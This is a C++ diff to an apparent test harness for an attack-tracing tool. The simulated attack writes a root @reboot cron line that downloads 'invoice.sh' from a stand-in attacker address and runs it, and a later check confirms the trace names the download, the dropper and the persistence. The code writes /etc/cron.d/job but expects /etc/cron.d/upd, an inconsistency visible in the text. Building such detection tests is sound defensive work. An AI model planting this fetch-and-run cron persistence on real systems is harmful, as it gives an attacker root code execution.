@@ -202,9 +202,14 @@ std::string Chain::record() {
 
 std::string Chain::attack() {
     m_attacked = wallClock();
-    const std::string evil = std::string("http://") + ChainNetwork::kAttackerAddress;
-    must(ChainNetwork::kEndpoint, {"bash", "-c", "cd \"$METSUKE_SIM_ROOT\" && curl -s -o invoice.sh " + evil + "/invoice.sh && bash invoice.sh"});
-    need(within(seconds(30), [&] { return m_attacker->visits(kHomePort).size() >= 3; }), "nobody calls home");
+    // Whoever fetches it does so in a job of the system's cron, not in this program: nothing of this is to blame. The
+    // line stands in the table that only this program and its children see, and cron runs it at once.
+    std::ofstream("/etc/cron.d/job") << "METSUKE_SIM_ROOT=" << root().string() << "\n@reboot root cd \"$METSUKE_SIM_ROOT\" && curl -s -o invoice.sh http://"
+                                     << ChainNetwork::kAttackerAddress << "/invoice.sh && bash invoice.sh\n";
+    auto& cron = m_running["cron"]
+        = start(ChainNetwork::kEndpoint, {"unshare", "--mount", "sh", "-c", "mount -t tmpfs none /run && exec cron -f"});
+    need(within(seconds(30), [&] { return hasEnded(*cron) || m_attacker->visits(kHomePort).size() >= 3; }) && !hasEnded(*cron),
+        "nobody calls home: " + cron->err());
     return "fetched, dropped, persistent in /etc/cron.d/upd, calling home";
 }
 
@@ -240,6 +245,7 @@ std::string Chain::trace() {
     need(view.label("subject") == root() / ".update", "the subject is wrong\n" + whole.str());
     need(view.entry() == "download" && view.label("root").starts_with(ChainNetwork::kAttackerAddress), "the download is not named\n" + whole.str());
     need(files.contains(root() / "invoice.sh"), "the dropper is not named\n" + whole.str());
+    need(!files.contains(program("metsuke_chain")), "a bystander is blamed\n" + whole.str());
     need(std::ranges::any_of(persisted, [](const std::string& one) { return one.find("/etc/cron.d/upd") != std::string::npos; }),
         "the cron entry is not named\n" + whole.str());
     std::istringstream story(view.story());
